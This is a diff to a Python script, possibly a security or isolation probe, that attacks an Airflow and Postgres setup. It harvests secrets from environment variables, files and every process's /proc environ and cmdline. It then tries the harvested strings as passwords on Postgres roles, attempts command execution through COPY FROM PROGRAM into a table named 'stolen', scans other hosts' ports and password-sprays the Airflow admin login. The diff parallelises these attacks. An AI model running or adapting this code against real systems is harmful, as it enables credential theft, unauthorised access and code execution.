@@ -9,6 +9,7 @@ import re
 import socket
 import urllib.error
 import urllib.request
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
@@ -24,10 +25,10 @@ TARGETS = (
 )  # fmt: skip
 
 
-def texts() -> str:
+def texts(folders: tuple[str, ...] = FOLDERS) -> str:
     """Everything that can be read: files, and the environment and arguments of every process."""
     found = [json.dumps(dict(os.environ))]
-    paths = [Path(folder) / name for top in FOLDERS for folder, _, names in os.walk(top) for name in names]
+    paths = [Path(folder) / name for top in folders for folder, _, names in os.walk(top) for name in names]
     paths += [p / name for p in Path("/proc").iterdir() if p.name.isdigit() for name in ("environ", "cmdline")]
     for path in paths:
         try:
@@ -38,57 +39,72 @@ def texts() -> str:
     return "\n".join(found)
 
 
-def guesses(known: str) -> list[str]:
-    """Whatever looks like a generated password."""
+def guesses() -> list[str]:
+    """Whatever looks like a generated password, in the secrets and in the environment."""
+    known = texts(("/run",))
     return sorted({word for word in re.findall(r"[\w-]{32}(?![\w-])", known) if not re.fullmatch(r"[0-9a-f]+", word)})
 
 
-def logins(passwords: list[str]) -> list[list[str]]:
-    """Server, role and whether it is a superuser, for each login that some password opens; and what it could run."""
+def logins(passwords: list[str], known: dict[str, set[str]]) -> list[list[str]]:
+    """Server, role and what it is, for each login that some password opens."""
+    tries = [
+        (server, min(known[server]), role, password)
+        for server, role, password in itertools.product(("warehouse", "metadata"), ROLES, ["none", *passwords])
+        if known[server]
+    ]
+    with ThreadPoolExecutor(16) as pool:
+        return sorted(found for found in pool.map(lambda each: log_in(*each), tries) if found)
+
+
+def log_in(server: str, address: str, role: str, password: str) -> list[str]:
+    """Server, role and whether it is a superuser or runs programs; nothing where the login is refused."""
     import psycopg2
 
-    opened = []
-    for server, role, password in itertools.product(("warehouse", "metadata"), ROLES, ["", *passwords]):
-        database = "airflow" if server == "metadata" else "warehouse"
+    database = "airflow" if server == "metadata" else "warehouse"
+    try:
+        link = psycopg2.connect(
+            host=address, user=role, password=password, dbname=database, connect_timeout=30, sslmode="disable"
+        )
+    except psycopg2.OperationalError as error:
+        return [server, role, "no superuser"] if "permission denied for database" in str(error) else []
+    with link.cursor() as cursor:
+        cursor.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
+        what = "superuser" if cursor.fetchone()[0] else "no superuser"
         try:
-            link = psycopg2.connect(
-                host=server, user=role, password=password, dbname=database, connect_timeout=3, sslmode="disable"
-            )
-        except psycopg2.OperationalError as error:
-            if "translate host name" in str(error):
-                break
-            continue
-        with link.cursor() as cursor:
-            cursor.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
-            opened.append([server, role, "superuser" if cursor.fetchone()[0] else "no superuser"])
-            try:
-                cursor.execute("CREATE TEMPORARY TABLE stolen (line text)")
-                cursor.execute("COPY stolen FROM PROGRAM 'id'")
-                opened.append([server, role, "ran a program"])
-            except psycopg2.Error:
-                pass
-        link.close()
-    return opened
+            cursor.execute("CREATE TABLE pg_temp.stolen (line text)")
+            cursor.execute("COPY pg_temp.stolen FROM PROGRAM 'id'")
+            what = "runs programs"
+        except psycopg2.Error:
+            pass
+    link.close()
+    return [server, role, what]
 
 
-def open_ports() -> list[str]:
-    """Every port of another service that takes a connection."""
-    found = []
-    for host, port in itertools.product(HOSTS, PORTS):
+def addresses() -> dict[str, set[str]]:
+    """Where each service is; a name that nobody has takes its time, so they are asked for at once."""
+
+    def look_up(host: str) -> set[str]:
         try:
-            addresses = {info[4][0] for info in socket.getaddrinfo(host, port, socket.AF_INET)}
+            return {str(info[4][0]) for info in socket.getaddrinfo(host, 0, socket.AF_INET)}
         except OSError:
-            continue
-        if addresses & own_addresses():
-            continue
-        for address in addresses:
-            try:
-                socket.create_connection((address, port), timeout=2).close()
-            except OSError:
-                continue
-            found.append(f"{host}:{port}")
-            break
-    return found
+            return set()
+
+    with ThreadPoolExecutor(len(HOSTS)) as pool:
+        return dict(zip(HOSTS, pool.map(look_up, HOSTS), strict=True))
+
+
+def open_ports(known: dict[str, set[str]]) -> list[str]:
+    """Every port of another service that takes a connection."""
+
+    def is_open(address: str, port: int) -> bool:
+        try:
+            socket.create_connection((address, port), timeout=3).close()
+        except OSError:
+            return False
+        return True
+
+    others = {host: found for host, found in known.items() if not found & own_addresses()}
+    return [f"{host}:{port}" for host in others for port in PORTS if any(is_open(at, port) for at in others[host])]
 
 
 def own_addresses() -> set[str]:
@@ -110,18 +126,19 @@ def written() -> list[str]:
 
 def let_in(passwords: list[str]) -> list[str]:
     """The passwords that Airflow's login takes."""
-    taken = []
-    for password in ["admin", "airflow", *passwords]:
+
+    def is_taken(password: str) -> bool:
         body = json.dumps({"username": "admin", "password": password}).encode()
         asked = urllib.request.Request(
             "http://apiserver:8080/auth/token", body, {"Content-Type": "application/json"}, method="POST"
         )
         try:
-            urllib.request.urlopen(asked, timeout=20).close()
+            urllib.request.urlopen(asked, timeout=60).close()
         except urllib.error.HTTPError:
-            continue
-        taken.append(password)
-    return taken
+            return False
+        return True
+
+    return [password for password in ["admin", "airflow", *passwords] if is_taken(password)]
 
 
 def has_way_out() -> bool:
@@ -131,13 +148,12 @@ def has_way_out() -> bool:
 
 def main() -> dict[str, Any]:
     """All of it."""
-    known = texts()
-    passwords = guesses(known)
+    passwords, hosts = guesses(), addresses()
     return {
-        "known": known,
+        "known": texts(),
         "passwords": len(passwords),
-        "logins": logins(passwords),
-        "ports": open_ports(),
+        "logins": logins(passwords, hosts),
+        "ports": open_ports(hosts),
         "written": written(),
         "let in": let_in(passwords),
         "way out": has_way_out(),
